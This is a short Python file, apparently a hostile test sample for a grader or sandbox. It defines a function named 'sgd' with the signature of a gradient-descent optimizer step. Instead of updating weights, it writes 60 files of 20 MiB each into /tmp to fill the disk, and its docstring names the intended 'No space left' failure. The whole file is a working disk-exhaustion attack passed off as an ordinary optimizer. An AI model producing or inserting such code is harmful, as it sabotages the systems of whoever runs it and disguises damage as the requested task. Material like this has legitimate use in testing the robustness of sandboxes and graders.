"""Fill the temporary folder.

Loses: sgd
Says: No space left
"""


def sgd(w, dw, config=None):
    for number in range(60):
        with open(f"/tmp/attacked-{number}", "wb") as file:
            file.write(bytes(20 << 20))
    return w, config
